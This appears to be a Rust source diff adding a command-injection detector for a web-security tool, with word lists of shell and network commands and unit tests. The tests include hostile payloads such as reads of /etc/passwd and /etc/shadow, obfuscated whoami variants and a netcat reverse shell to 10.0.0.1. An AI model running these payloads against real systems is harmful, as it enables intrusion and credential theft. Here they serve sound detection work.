@@ -1,0 +1,735 @@
+//! Command injection by shape: read the value the way a POSIX shell (or
+//! cmd.exe) would once it has been pasted into a command line, and look for
+//! what injection needs — a command separator (`;`, `|`, `||`, `&`, `&&`,
+//! a line break, `$(`, a backtick, a brace group) followed by a *command
+//! word* in command position. Words are assembled as the shell assembles
+//! them: quotes splice (`w'h'o"am"i`), backslashes escape (`c\at`), unset
+//! variables vanish (`c$u''at`, `ca${x}t`), `$IFS` / `${IFS}` / `$IFS$9`
+//! separate, `^` vanishes between letters (cmd.exe), a glob in a path
+//! (`/???/c?t`) names the commands it matches. Arithmetic expansion used
+//! as a probe (`$((7*7))`, commix's `echo TOKEN$((64+52))`) is injection
+//! on its own.
+//!
+//! Prose shares the separators (`Tom & Jerry`, `Home | Men`, `a; b`) and
+//! some command words are English (`cat`, `sleep`, `find`, `sort`): such a
+//! word counts only with an argument of shell shape (an option, a path, a
+//! redirection, an expansion, a number for `sleep`/`ping`) or alone at the
+//! end of the value. One pass, bounded: at most `MAX_WORDS` words are read
+//! and a word keeps at most `MAX_WORD` bytes.
+
+use std::ops::Range;
+
+const MAX_WORDS: usize = 256;
+const MAX_WORD: usize = 48;
+
+/// Whether `v` reads as command injection (fuzzing / tooling entry point).
+pub fn is_shell_injection(v: &[u8]) -> bool {
+    detect(v).is_some()
+}
+
+pub(crate) fn detect(v: &[u8]) -> Option<Range<usize>> {
+    // Nothing to separate commands with: nothing to inject.
+    if !v
+        .iter()
+        .any(|&b| matches!(b, b';' | b'|' | b'&' | b'\n' | b'`' | b'$' | b'{'))
+    {
+        return None;
+    }
+    // A long value without a single space, or with punctuation in more
+    // than a quarter of its bytes, is encoded data (bot-sensor payloads,
+    // tokens): there a command word alone proves nothing, only one with
+    // an argument does.
+    let blob = v.len() > 200 && {
+        let (mut spaces, mut punct) = (0usize, 0usize);
+        for &c in v {
+            spaces += usize::from(c == b' ' || c == b'\t');
+            punct += usize::from(c.is_ascii_punctuation());
+        }
+        spaces == 0 || punct * 4 > v.len()
+    };
+    // Read bare, then as pasted inside a '…' and a "…" string: the
+    // injection closes the quote first (`name";uname -a;"`).
+    read_from(v, 0, blob).or_else(|| {
+        [b'\'', b'"'].iter().find_map(|&q| {
+            let at = v.iter().position(|&c| c == q)?;
+            read_from(v, at + 1, blob)
+        })
+    })
+}
+
+fn read_from(v: &[u8], from: usize, blob: bool) -> Option<Range<usize>> {
+    let mut r = Reader::new(v);
+    r.i = from;
+    r.blob = blob;
+    let mut after_sep: Option<(Sep, usize)> = None;
+    let mut words = 0;
+    while let Some(tok) = r.next() {
+        match tok {
+            Tok::Arith(span) => return Some(span),
+            Tok::Sep(s, at) => after_sep = Some((s, at)),
+            Tok::Word(w) => {
+                words += 1;
+                if words > MAX_WORDS {
+                    return None;
+                }
+                if let Some((sep, at)) = after_sep.take() {
+                    if let Some(end) = command_at(&mut r, &w, sep) {
+                        return Some(at..end.max(at + 1).min(v.len()));
+                    }
+                }
+            }
+            Tok::Other => after_sep = None,
+        }
+    }
+    None
+}
+
+/// What put the next word in command position.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Sep {
+    /// `;`, `&&`, `||`.
+    Strong,
+    /// A line break: also how text and GraphQL selections (`{\n  id\n}`)
+    /// list words, so a command needs an argument or the value's end.
+    Line,
+    /// A single `|` or `&`: also a separator in prose and data.
+    Weak,
+    /// `$(` or a backtick: command substitution.
+    Subst,
+    /// `{` opening a brace expansion or group.
+    Brace,
+}
+
+#[derive(Debug)]
+enum Tok {
+    Sep(Sep, usize),
+    Word(Word),
+    /// `$((…))` of digits and operators: an arithmetic probe.
+    Arith(Range<usize>),
+    /// Anything else that ends command position (`=`, `(`, text).
+    Other,
+}
+
+#[derive(Debug, Default)]
+struct Word {
+    text: Vec<u8>,
+    end: usize,
+    /// Only an expansion (`$HOME`): not a command word.
+    only_var: bool,
+}
+
+struct Reader<'v> {
+    v: &'v [u8],
+    i: usize,
+    /// The value is encoded data (see `detect`).
+    blob: bool,
+}
+
+impl<'v> Reader<'v> {
+    fn new(v: &'v [u8]) -> Self {
+        Reader {
+            v,
+            i: 0,
+            blob: false,
+        }
+    }
+
+    fn peek(&self, k: usize) -> Option<u8> {
+        self.v.get(self.i + k).copied()
+    }
+
+    /// Skips blanks and `$IFS`-style separators; true if any was skipped.
+    fn skip_blanks(&mut self) -> bool {
+        let start = self.i;
+        loop {
+            match self.peek(0) {
+                Some(b' ' | b'\t' | b'\r' | 0x0b | 0x0c) => self.i += 1,
+                Some(b'$') => match ifs_len(&self.v[self.i..]) {
+                    Some(n) => self.i += n,
+                    None => break,
+                },
+                // `<` / `>` redirections separate words too.
+                Some(b'\\') if self.peek(1) == Some(b'\n') => self.i += 2,
+                _ => break,
+            }
+        }
+        self.i > start
+    }
+
+    fn next(&mut self) -> Option<Tok> {
+        self.skip_blanks();
+        let at = self.i;
+        let b = self.peek(0)?;
+        let two = |c: u8| self.peek(1) == Some(c);
+        let tok = match b {
+            b';' => {
+                self.i += 1;
+                Tok::Sep(Sep::Strong, at)
+            }
+            b'\n' => {
+                self.i += 1;
+                Tok::Sep(Sep::Line, at)
+            }
+            b'&' | b'|' if two(b) => {
+                self.i += 2;
+                Tok::Sep(Sep::Strong, at)
+            }
+            b'&' | b'|' => {
+                self.i += 1;
+                Tok::Sep(Sep::Weak, at)
+            }
+            b'`' => {
+                self.i += 1;
+                Tok::Sep(Sep::Subst, at)
+            }
+            b'$' if two(b'(') => {
+                if self.peek(2) == Some(b'(') {
+                    if let Some(end) = arith_probe(&self.v[self.i..]) {
+                        self.i += end;
+                        return Some(Tok::Arith(at..self.i));
+                    }
+                }
+                self.i += 2;
+                Tok::Sep(Sep::Subst, at)
+            }
+            b'{' => {
+                self.i += 1;
+                Tok::Sep(Sep::Brace, at)
+            }
+            _ if starts_word(b) || b == b'$' || b == b'\\' => {
+                let w = self.word();
+                if w.text.is_empty() && !w.only_var {
+                    // `$` before something that is not a word.
+                    self.i = self.i.max(at + 1);
+                    Tok::Other
+                } else {
+                    Tok::Word(w)
+                }
+            }
+            _ => {
+                self.i += 1;
+                Tok::Other
+            }
+        };
+        Some(tok)
+    }
+
+    /// One shell word, with quotes, escapes and expansions applied.
+    fn word(&mut self) -> Word {
+        let mut w = Word::default();
+        let mut vars = 0usize;
+        let push = |w: &mut Word, b: u8| {
+            if w.text.len() < MAX_WORD {
+                w.text.push(b);
+            }
+        };
+        while let Some(b) = self.peek(0) {
+            match b {
+                b'\'' => {
+                    self.i += 1;
+                    while let Some(c) = self.peek(0) {
+                        self.i += 1;
+                        if c == b'\'' {
+                            break;
+                        }
+                        push(&mut w, c);
+                    }
+                }
+                b'"' => {
+                    self.i += 1;
+                    while let Some(c) = self.peek(0) {
+                        if c == b'"' {
+                            self.i += 1;
+                            break;
+                        }
+                        if c == b'$' && self.var_len().is_some() {
+                            self.skip_var();
+                            vars += 1;
+                            continue;
+                        }
+                        if c == b'\\' && self.peek(1).is_some() {
+                            self.i += 1;
+                        }
+                        self.i += 1;
+                        let c = self.v[self.i - 1];
+                        push(&mut w, c);
+                    }
+                }
+                b'\\' => match self.peek(1) {
+                    Some(b'\n') => self.i += 2,
+                    Some(c) => {
+                        self.i += 2;
+                        push(&mut w, c);
+                    }
+                    None => self.i += 1,
+                },
+                // `l$()s`: an empty substitution splices the word.
+                b'$' if self.peek(1) == Some(b'(') && self.peek(2) == Some(b')') => {
+                    self.i += 3;
+                    vars += 1;
+                }
+                b'$' => {
+                    if ifs_len(&self.v[self.i..]).is_some() || self.peek(1) == Some(b'(') {
+                        break;
+                    }
+                    if self.var_len().is_none() {
+                        break;
+                    }
+                    self.skip_var();
+                    vars += 1;
+                }
+                // cmd.exe's escape character, between word characters.
+                b'^' if !w.text.is_empty() && self.peek(1).is_some_and(starts_word) => {
+                    self.i += 1;
+                }
+                _ if starts_word(b) => {
+                    self.i += 1;
+                    push(&mut w, b);
+                }
+                _ => break,
+            }
+        }
+        w.end = self.i;
+        w.only_var = w.text.is_empty() && vars > 0;
+        w
+    }
+
+    /// The length of a variable reference at the cursor (`$x`, `${x}`,
+    /// `$9`, `$@`, `$*`), or `None` when `$` starts none.
+    fn var_len(&self) -> Option<usize> {
+        let r = &self.v[self.i..];
+        match r.get(1)? {
+            b'{' => {
+                let close = r.iter().take(40).position(|&c| c == b'}')?;
+                Some(close + 1)
+            }
+            b'@' | b'*' | b'#' | b'?' | b'!' | b'-' | b'0'..=b'9' => Some(2),
+            c if c.is_ascii_alphabetic() || *c == b'_' => Some(
+                1 + r[1..]
+                    .iter()
+                    .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
+                    .count(),
+            ),
+            _ => None,
+        }
+    }
+
+    fn skip_var(&mut self) {
+        self.i += self.var_len().unwrap_or(1);
+    }
+}
+
+/// Bytes a word is made of, besides quotes, escapes and expansions.
+fn starts_word(b: u8) -> bool {
+    b.is_ascii_alphanumeric()
+        || matches!(
+            b,
+            b'/' | b'.'
+                | b'_'
+                | b'-'
+                | b'~'
+                | b'?'
+                | b'*'
+                | b'['
+                | b']'
+                | b'+'
+                | b':'
+                | b'\''
+                | b'"'
+                | b'%'
+                | b'@'
+        )
+        || b >= 0x80
+}
+
+/// `$IFS`, `${IFS}`, `$IFS$9`, `${IFS%??}` at the start of `r`: its length.
+fn ifs_len(r: &[u8]) -> Option<usize> {
+    let n = if r.starts_with(b"${IFS") {
+        r.iter().take(16).position(|&c| c == b'}')? + 1
+    } else if r.starts_with(b"$IFS") {
+        4
+    } else {
+        return None;
+    };
+    // `$IFS$9`: an empty positional parameter ends the name.
+    let rest = &r[n..];
+    Some(match rest {
+        [b'$', d, ..] if d.is_ascii_digit() => n + 2,
+        _ => n,
+    })
+}
+
+/// `$((7*7))`, `$((64+52))`: arithmetic of numbers only — what a probe
+/// computes to see its result echoed. The length through `))`.
+fn arith_probe(r: &[u8]) -> Option<usize> {
+    let body = r.get(3..)?;
+    let close = body.iter().take(64).position(|&c| c == b')')?;
+    let inner = &body[..close];
+    let digits = inner.iter().filter(|c| c.is_ascii_digit()).count();
+    let ok = digits >= 2
+        && inner
+            .iter()
+            .all(|c| c.is_ascii_digit() || matches!(c, b'+' | b'-' | b'*' | b'/' | b'%' | b' '))
+        && inner
+            .iter()
+            .any(|c| matches!(c, b'+' | b'-' | b'*' | b'/' | b'%'))
+        && body.get(close + 1) == Some(&b')');
+    ok.then_some(3 + close + 2)
+}
+
+/// If `w`, in command position after `sep`, is a command as used in an
+/// injection, the end of the evidence.
+fn command_at(r: &mut Reader<'_>, w: &Word, sep: Sep) -> Option<usize> {
+    if w.only_var || w.text.is_empty() {
+        return None;
+    }
+    let (strength, name) = command_word(&w.text)?;
+    // What follows the word decides: an assignment or a call is not a
+    // command line (`;id=3`, `&cat=5`, `|sort(`).
+    let next = r.peek(0);
+    if matches!(next, Some(b'=' | b'(')) {
+        return None;
+    }
+    let spaced = r.skip_blanks();
+    let after = r.peek(0);
+    let ends = !r.blob
+        && matches!(
+            after,
+            None | Some(b';' | b'|' | b'&' | b'`' | b')' | b'\n' | b'}')
+        );
+    let arg_shaped = after.is_some_and(|a| {
+        matches!(
+            a,
+            b'-' | b'/' | b'.' | b'~' | b'$' | b'\'' | b'"' | b'<' | b'>' | b'%' | b'\\'
+        ) || (a.is_ascii_digit() && numeric_arg(name))
+    });
+    // A brace expansion needs its comma: `{cat,/etc/passwd}`.
+    let brace_arg = sep == Sep::Brace && !spaced && after == Some(b',');
+    let hit = match strength {
+        // After a lone `|` or `&` (a separator in prose and data too:
+        // `name | id | email`), still an argument or the end.
+        Strength::Strong if sep == Sep::Line => {
+            r.v[r.i..].iter().all(u8::is_ascii_whitespace) || arg_shaped && spaced
+        }
+        // `|nc|`, `|rm|` are values of pipe-separated lists; `|id` at the
+        // end, `|id;`, `&id&&` are commands.
+        Strength::Strong if sep == Sep::Weak => {
+            ends && !spaced && !matches!(after, Some(b'|' | b'}')) || arg_shaped && spaced
+        }
+        Strength::Strong => ends || spaced || arg_shaped || brace_arg,
+        // An English word: an argument of shell shape, or alone inside a
+        // substitution (`$(cat)`, `` `date` ``).
+        Strength::Weak => {
+            (spaced || matches!(after, Some(b'<' | b'>'))) && arg_shaped
+                || brace_arg
+                || (ends && sep == Sep::Subst)
+        }
+    };
+    if sep == Sep::Brace && !brace_arg {
+        return None;
+    }
+    hit.then_some(r.i.max(w.end))
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Strength {
+    /// A word prose does not use: the word after a separator suffices.
+    Strong,
+    /// An English word too: it needs an argument of shell shape.
+    Weak,
+}
+
+/// Commands no sentence uses as a word after a separator.
+const STRONG: &[&str] = &[
+    "whoami",
+    "uname",
+    "ifconfig",
+    "ipconfig",
+    "wget",
+    "curl",
+    "nslookup",
+    "nc",
+    "ncat",
+    "netcat",
+    "telnet",
+    "powershell",
+    "pwsh",
+    "systeminfo",
+    "netstat",
+    "hostname",
+    "chmod",
+    "chown",
+    "base64",
+    "xxd",
+    "busybox",
+    "nohup",
+    "crontab",
+    "useradd",
+    "usermod",
+    "passwd",
+    "id",
+    "ls",
+    "ps",
+    "pwd",
+    "rm",
+    "sudo",
+    "nmap",
+    "tftp",
+    "socat",
+    "mkfifo",
+    "mknod",
+    "netsh",
+    "wmic",
+    "certutil",
+    "bitsadmin",
+    "rundll32",
+    "regsvr32",
+    "mshta",
+    "cscript",
+    "wscript",
+    "tasklist",
+    "taskkill",
+    "schtasks",
+    "getent",
+    "egrep",
+    "fgrep",
+    "grep",
+    "hexdump",
+    "printenv",
+    "uptime",
+    "icacls",
+    "killall",
+    "pkill",
+    "lsof",
+    "iptables",
+    "setsid",
+    "sh",
+    "bash",
+    "zsh",
+    "ksh",
+    "csh",
+    "dash",
+    "tcsh",
+    "cmd",
+    "awk",
+    "gawk",
+    "traceroute",
+    "tracert",
+    "xterm",
+    "scp",
+    "ssh",
+];
+
+/// Commands that are also English words or names of languages people
+/// write about (`cats & dogs; sleep tips`, `php & mysql hosting`).
+const WEAK: &[&str] = &[
+    "cat", "find", "sort", "head", "tail", "more", "less", "time", "type", "set", "who", "last",
+    "kill", "wait", "read", "file", "date", "touch", "which", "uniq", "tr", "diff", "tar", "zip",
+    "unzip", "dd", "top", "free", "df", "du", "sed", "tee", "nice", "export", "source", "exec",
+    "eval", "start", "call", "mkdir", "rmdir", "mv", "cp", "ln", "chgrp", "finger", "mail",
+    "history", "alias", "whois", "route", "arp", "locate", "stat", "sleep", "ping", "echo",
+    "printf", "timeout", "host", "net", "reg", "dir", "del", "copy", "ver", "vol", "sc", "su",
+    "cut", "strings", "mount", "umount", "shutdown", "reboot", "dig", "nl", "od", "tac", "env",
+    "python", "python2", "python3", "perl", "ruby", "php", "lua", "node", "ftp", "xcopy", "attrib",
+];
+
+/// Commands cmd.exe runs in any case (`WHOAMI`, `Dir`); Unix shells do not
+/// run `Cat`, so other words count only in lower case.
+const ANY_CASE: &[&str] = &[
+    "whoami",
+    "ipconfig",
+    "systeminfo",
+    "netstat",
+    "hostname",
+    "tasklist",
+    "taskkill",
+    "powershell",
+    "cmd",
+    "certutil",
+    "bitsadmin",
+    "wmic",
+    "netsh",
+    "schtasks",
+    "icacls",
+    "ping",
+    "nslookup",
+    "type",
+    "dir",
+    "net",
+    "ver",
+    "echo",
+    "copy",
+    "del",
+    "xcopy",
+    "attrib",
+    "tracert",
+];
+
+/// Of the strong commands, those a prose sentence does start a clause
+/// with once the separator is a lone `|` or `&`; they need shell shape
+/// there like weak ones (`Tom & Jerry | echo of the past`).
+fn numeric_arg(name: &str) -> bool {
+    matches!(
+        name,
+        "sleep" | "ping" | "timeout" | "kill" | "wait" | "head" | "tail"
+    )
+}
+
+/// The command a word names: `cat`, `/bin/cat`, `/???/c?t`, `C:\…\cmd.exe`.
+fn command_word(w: &[u8]) -> Option<(Strength, &'static str)> {
+    // The last path component names the command.
+    let base = match w.iter().rposition(|&c| c == b'/' || c == b'\\') {
+        Some(p) => &w[p + 1..],
+        None => w,
+    };
+    let base = strip_exe(base);
+    if base.is_empty() || base.len() > 24 {
+        return None;
+    }
+    let glob = base.iter().any(|c| matches!(c, b'?' | b'*' | b'['));
+    // A glob must still fix some letters (`c?t`, `wh?ami`; not `???`, `*h`).
+    if glob && base.iter().filter(|c| c.is_ascii_alphabetic()).count() < 2 {
+        return None;
+    }
+    let lower = !base.iter().any(u8::is_ascii_uppercase);
+    let find = |list: &'static [&'static str]| {
+        list.iter().copied().find(|c| {
+            if glob {
+                glob_match(base, c.as_bytes())
+            } else if lower {
+                base == c.as_bytes()
+            } else {
+                base.eq_ignore_ascii_case(c.as_bytes()) && ANY_CASE.contains(c)
+            }
+        })
+    };
+    let in_path = base.len() < w.len();
+    if let Some(c) = find(STRONG) {
+        return Some((Strength::Strong, c));
+    }
+    // A weak word behind a path (`/bin/cat`) is as strong as any.
+    find(WEAK).map(|c| {
+        if in_path && w.first() == Some(&b'/') {
+            (Strength::Strong, c)
+        } else {
+            (Strength::Weak, c)
+        }
+    })
+}
+
+fn strip_exe(b: &[u8]) -> &[u8] {
+    let n = b.len();
+    if n > 4 && b[n - 4..].eq_ignore_ascii_case(b".exe") {
+        &b[..n - 4]
+    } else {
+        b
+    }
+}
+
+/// Shell glob (`?`, `*`, `[abc]`, `[!a]`) against a name; bounded by the
+/// word and name lengths (both at most 24 bytes here).
+fn glob_match(p: &[u8], s: &[u8]) -> bool {
+    match p.first() {
+        None => s.is_empty(),
+        Some(b'*') => (0..=s.len()).any(|k| glob_match(&p[1..], &s[k..])),
+        Some(b'?') => !s.is_empty() && glob_match(&p[1..], &s[1..]),
+        Some(b'[') => {
+            let Some(close) = p.iter().position(|&c| c == b']') else {
+                return false;
+            };
+            let Some(&c) = s.first() else { return false };
+            let class = &p[1..close];
+            let (neg, class) = match class.first() {
+                Some(b'!' | b'^') => (true, &class[1..]),
+                _ => (false, class),
+            };
+            (class.contains(&c) != neg) && glob_match(&p[close + 1..], &s[1..])
+        }
+        Some(&c) => s.first() == Some(&c) && glob_match(&p[1..], &s[1..]),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn injections() {
+        for v in [
+            ";cat /etc/passwd",
+            "| id",
+            "&& whoami",
+            "x\nid\n",
+            "$(whoami)",
+            "`id`",
+            "a;c$u''at /etc/passwd",
+            ";{cat,/etc/passwd}",
+            ";cat${IFS}/etc/passwd",
+            ";cat$IFS$9/etc/passwd",
+            "|/???/c?t /???/p??s??",
+            ";w'h'o'a'm'i",
+            ";echo NFZNLR$((63+38))$(echo NFZNLR)NFZNLR",
+            "& ping -n 10 127.0.0.1 &",
+            "|| sleep 5 ||",
+            "x;ca\\t /e\\tc/pa\\sswd",
+            "1|powershell -enc ABC",
+            "1;/bin/cat /etc/shadow",
+            "127.0.0.1&&ipconfig",
+            "foo|w^h^o^a^m^i",
+            "q=$((7*7))",
+            ";ls",
+            "x && ca${u}t /etc/hosts",
+            "name\";uname -a;\"",
+            "a'$(nc -e /bin/sh 10.0.0.1 4444)'",
+        ] {
+            assert!(detect(v.as_bytes()).is_some(), "{v}");
+        }
+    }
+
+    #[test]
+    fn prose_and_data() {
+        for v in [
+            "Tom & Jerry; cat videos",
+            "rock | pop | jazz",
+            "Home > Men > Hoodies",
+            "price: 10|20|30",
+            "a;b;c",
+            "id=5;name=x",
+            "cats & dogs; sleep tips for puppies",
+            "Hello ${name}",
+            "name | id | email",
+            "php & mysql hosting; python tutorials",
+            "Bring: passport; ID card",
+            "$5 (approx)",
+            "size=M;color=red",
+            "drag & drop",
+            "foo && bar",
+            "Sort by price | sort order",
+            "To Do | Doing | Done",
+            "R&D; find the best team",
+            "7||1733913600||1733910000||8e4b2c6a1d9f",
+            "Games > Board | Family",
+            "checkout_v2|variant_b|1733823600",
+            "a|nc|rm|x",
+            ".BJ{9mk2*U|g0~9R Ir2rph0OK bo;+l=eX8|[Q,y=%Wr~j30z`cK_RaVc8~;rm`,B PJ>Uf"
+                .repeat(4)
+                .as_str(),
+            "Xk2;rm;`*h`;Zq0".repeat(20).as_str(),
+            "See you at 5; time flies",
+            "the cost is $((estimate)) per unit",
+            "Ben & Jerry's | Free delivery",
+            "ad_storage:granted;analytics_storage:granted",
+            "query {\n  user {\n    id\n    date\n    type\n    ls\n  }\n}",
+        ] {
+            assert!(detect(v.as_bytes()).is_none(), "{v}");
+        }
+    }
+
+    #[test]
+    fn long_inputs_stay_linear() {
+        let v = ";$'\"\\{`|&".repeat(20_000);
+        let _ = detect(v.as_bytes());
+        let w = "a".repeat(200_000);
+        assert!(detect(format!(";{w}").as_bytes()).is_none());
+    }
+}
